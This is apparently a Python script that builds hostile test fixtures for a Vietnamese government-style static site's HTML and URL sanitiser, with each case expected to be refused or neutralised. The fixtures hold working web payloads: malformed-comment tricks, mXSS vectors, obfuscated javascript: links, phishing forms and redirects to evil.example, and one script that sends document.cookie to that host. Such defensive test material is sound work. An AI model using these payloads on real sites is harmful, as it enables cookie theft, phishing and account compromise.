import os, json
root='/work/wt-html/test/fixtures/hostile'
FRONT='''---
title: "Bài thử"
date: 2024-05-20
unit: phuong-tran-phu
summary: "Một bài viết thử."
draft: false
demo: true
---

Đoạn đầu.

'''
POST='posts/phuong-tran-phu/2024-05-20-bai-thu.md'
def q(s):  # YAML block-safe: use JSON string (valid YAML)
    return json.dumps(s, ensure_ascii=False)
def case(family, name, about, edits, outcome='refused', extra=''):
    d=f'{root}/{family}/{name}'; os.makedirs(d, exist_ok=True)
    lines=[f'about: {q(about)}', f'outcome: {outcome}', 'edits:']
    for e in edits:
        first=True
        for k,v in e.items():
            pre='- ' if first else '  '; first=False
            if k=='write' and isinstance(v,str) and '\n' in v:
                lines.append(f'{pre}{k}: |')
                for l in v.rstrip('\n').split('\n'): lines.append('    '+l if l else '')
            else:
                lines.append(f'{pre}{k}: {q(v) if isinstance(v,str) else v}')
    open(f'{d}/case.yaml','w').write('\n'.join(lines)+'\n'+extra)
def post(family, name, about, body):
    case(family, name, about, [{'file': POST, 'write': FRONT+body+'\n'}])

C='html-comments'
post(C,'bang-gt-meta-refresh','chú thích "<!-->" do trình duyệt đóng ngay, theo sau là <meta http-equiv="refresh"> chuyển người đọc sang trang lừa đảo','<!--> <meta http-equiv="refresh" content="0;url=https://evil.example/dang-nhap">')
post(C,'dash-dash-gt-base','chú thích "<!--->" đóng ngay, theo sau là <base> đổi đích mọi liên kết','<!---> <base href="https://evil.example/">')
post(C,'bang-close-form','chú thích kết thúc bằng "--!>", theo sau là biểu mẫu gửi mật khẩu ra ngoài','<!-- ghi chú --!> <form action="https://evil.example/dang-nhap"><input name="mat-khau"></form>')
post(C,'spaced-close-link','"-- >" không kết thúc chú thích: người duyệt tưởng <link> nằm ngoài','<!-- ghi chú -- > <link rel="stylesheet" href="https://evil.example/x.css"> -->')
post(C,'nested-open-style','chú thích lồng "<!-- <!-- -->": trình duyệt đóng ở "-->" đầu tiên, <style> phía sau có hiệu lực','<!-- ngoài <!-- trong --> <style>body{display:none}</style> -->')
post(C,'conditional-comment-script','chú thích điều kiện <!--[if IE]> chứa <script>','<!--[if IE]><script>fetch("https://evil.example/?c=" + document.cookie)</script><![endif]-->')
post(C,'cdata-iframe','"<![CDATA[" ngoài SVG là chú thích sai dạng, theo sau là <iframe>','<![CDATA[ x ]]><iframe src="https://evil.example/"></iframe>')
post(C,'processing-instruction-embed','"<?xml …?>" là chú thích sai dạng, theo sau là <embed>','<?xml version="1.0"?><embed src="https://evil.example/x.swf">')
post(C,'bogus-end-tag-object','"</ x>" trong khối HTML là chú thích sai dạng, theo sau là <object>','<details>\n</ x><object data="https://evil.example/x"></object>')
post(C,'bang-declaration-svg','"<!x>" là chú thích sai dạng, theo sau là <svg onload>','<!x><svg onload="alert(1)"></svg>')
post(C,'html-validate-disable-meta-refresh','chú thích [html-validate-disable-next] tắt bộ kiểm tra HTML cho <meta http-equiv="refresh"> ngay sau','<!-- [html-validate-disable-next meta-refresh] -->\n<meta http-equiv="refresh" content="0;url=https://evil.example">')
post(C,'editor-note','một ghi chú của biên tập viên <!-- … --> cũng bị từ chối: không có chú thích nào trong bài','<!-- ghi chú của biên tập viên: sửa lại số liệu -->')

E='html-elements'
post(E,'meta-refresh','<meta http-equiv="refresh"> chuyển mọi người đọc sang trang lừa đảo','<meta http-equiv="refresh" content="0 https://evil.example/">')
post(E,'base-href','<base> đổi đích mọi liên kết tương đối của trang','<base href="https://evil.example/">')
post(E,'form-external','biểu mẫu gửi dữ liệu người đọc ra máy chủ khác','<form action="https://evil.example/thu-thap" method="post"><input name="cccd"><button>Gửi</button></form>')
post(E,'link-stylesheet','<link> nạp tệp từ nơi khác vào trang','<link rel="stylesheet" href="https://evil.example/x.css">')
post(E,'embed','<embed> nhúng chương trình','<embed src="https://evil.example/x.swf">')
post(E,'svg-inline-script','<svg> viết thẳng vào bài, có <script> bên trong','<svg><script>alert(1)</script></svg>')
post(E,'math-mglyph-style','mXSS bằng MathML: <math><mtext><table><mglyph><style> đổi cách trình duyệt đọc phần sau','<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>')
post(E,'template-script','<template> giấu <script>','<template><script>alert(1)</script></template>')
post(E,'noscript-mxss','mXSS bằng <noscript>: thuộc tính chứa "</noscript><img onerror>"','<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')
post(E,'event-handler-ontoggle','thẻ được phép <details> với thuộc tính ontoggle','<details open ontoggle="alert(1)"><summary>Xem</summary>Nội dung</details>')
post(E,'entity-javascript-href','địa chỉ javascript: che bằng tham chiếu ký tự jav&#x61;script&colon;','<a href="jav&#x61;script&colon;alert(1)">Bấm</a>')
post(E,'tab-in-scheme','dấu tab giữa "java" và "script:" (trình duyệt bỏ qua)','<a href="java&Tab;script:alert(1)">Bấm</a>')
post(E,'unfinished-tag-swallows-text','thẻ chưa đóng ở cuối khối HTML nuốt đoạn sau làm thuộc tính','<details>\n<b title="x\n\nhết" onmouseover="alert(1)">')

U='urls'
EV_OLD='        number: 05/BC-UBND\n        date: 2024-05-28\n'
def evidence(name, about, field, value):
    case(U, name, about, [{'file':'progress/phuong-tran-phu.yaml','replace':EV_OLD,'with':EV_OLD+f'        {field}: {q(value)}\n'}])
evidence('evidence-backslash-host','minh chứng url "/\\evil.example/…": trình duyệt mở https://evil.example/…','url','/\\evil.example/bao-cao')
evidence('evidence-protocol-relative','minh chứng url "//evil.example/…" sang máy chủ khác','url','//evil.example/bao-cao')
evidence('evidence-tab-slash','minh chứng url "/<tab>/evil.example": trình duyệt bỏ tab, còn "//evil.example"','url','/\t/evil.example/bao-cao')
evidence('evidence-double-backslash','minh chứng url "\\\\evil.example\\…"','url','\\\\evil.example\\bao-cao')
evidence('evidence-https-no-slashes','minh chứng url "https:evil.example" thiếu //','url','https:evil.example/bao-cao')
evidence('evidence-credentials','minh chứng url "https://dichvucong.gov.vn@evil.example/" thật ra dẫn tới evil.example','url','https://dichvucong.gov.vn@evil.example/')
evidence('evidence-file-backslash','minh chứng file "/\\evil.example/qd.pdf" sang máy chủ khác','file','/\\evil.example/qd.pdf')
case(U,'links-backslash-host','liên kết trong links.yaml "/\\evil.example"',[{'file':'links.yaml','replace':'  url: https://bacgiang.gov.vn\n','with':'  url: "/\\\\evil.example/"\n'}])
case(U,'links-credentials','liên kết "https://bacgiang.gov.vn@evil.example/" dẫn tới evil.example',[{'file':'links.yaml','replace':'  url: https://bacgiang.gov.vn\n','with':'  url: https://bacgiang.gov.vn@evil.example/\n'}])
case(U,'documents-javascript-url','văn bản có url javascript:',[{'file':'documents/van-ban.yaml','replace':'  number: "55/KH-UBND"\n','with':'  number: "55/KH-UBND"\n  url: "javascript:alert(1)"\n'}])
case(U,'units-website-protocol-relative','trang web của đơn vị "//evil.example"',[{'file':'units.yaml','replace':'    shortName: Phòng VH&TT\n','with':'    shortName: Phòng VH&TT\n    website: "//evil.example/"\n'}])
case(U,'site-phone-javascript','số điện thoại liên hệ "javascript:alert(1)" (thành liên kết tel:)',[{'file':'site.yaml','replace':'  phone: "0204 424 2424"\n','with':'  phone: "javascript:alert(1)"\n'}])
post(U,'post-link-backslash-host','liên kết trong bài [Đăng nhập](/\\evil.example/dang-nhap)','[Đăng nhập Cổng dịch vụ công](/\\evil.example/dang-nhap)')
post(U,'post-link-protocol-relative','liên kết trong bài tới //evil.example','[Đăng nhập](//evil.example/dang-nhap)')
post(U,'post-link-credentials','liên kết trong bài https://dichvucong.gov.vn@evil.example','[Cổng Dịch vụ công](https://dichvucong.gov.vn@evil.example/)')
post(U,'post-link-no-slashes','liên kết trong bài https:evil.example','[Cổng](https:evil.example)')

F='feeds'
SUMMARY_OLD='summary: "Tổ công nghệ số cộng đồng hướng dẫn người dân cài đặt và kích hoạt tài khoản định danh điện tử."'
case(F,'summary-lt-amp-as-text','tóm tắt có "<", "&", ">" (không phải thẻ): nguồn tin ghi chúng như chữ, trình đọc tin không dựng thành HTML',
  [{'file':'posts/phuong-tran-phu/2024-05-10-ho-tro-dinh-danh.md','replace':SUMMARY_OLD,'with':'summary: "Tỷ lệ hồ sơ trực tuyến <50% & mục tiêu >80% <3 tháng"'}],
  outcome='neutralised',
  extra='page: /rss.xml\ncontains:\n- "Tỷ lệ hồ sơ trực tuyến &amp;lt;50% &amp;amp; mục tiêu &amp;gt;80% &amp;lt;3 tháng"\nexcludes:\n- "<50%"\n- "&lt;50%"\n- "content:encoded"\n')
case(F,'unit-feed-summary-as-text','cùng tóm tắt trong nguồn tin của đơn vị',
  [{'file':'posts/phuong-tran-phu/2024-05-10-ho-tro-dinh-danh.md','replace':SUMMARY_OLD,'with':'summary: "Tỷ lệ hồ sơ trực tuyến <50% & mục tiêu >80% <3 tháng"'}],
  outcome='neutralised',
  extra='page: /chuyen-doi-so/don-vi/phuong-tran-phu/rss.xml\ncontains:\n- "Tỷ lệ hồ sơ trực tuyến &amp;lt;50% &amp;amp; mục tiêu &amp;gt;80% &amp;lt;3 tháng"\nexcludes:\n- "<50%"\n- "&lt;50%"\n')
print('ok')
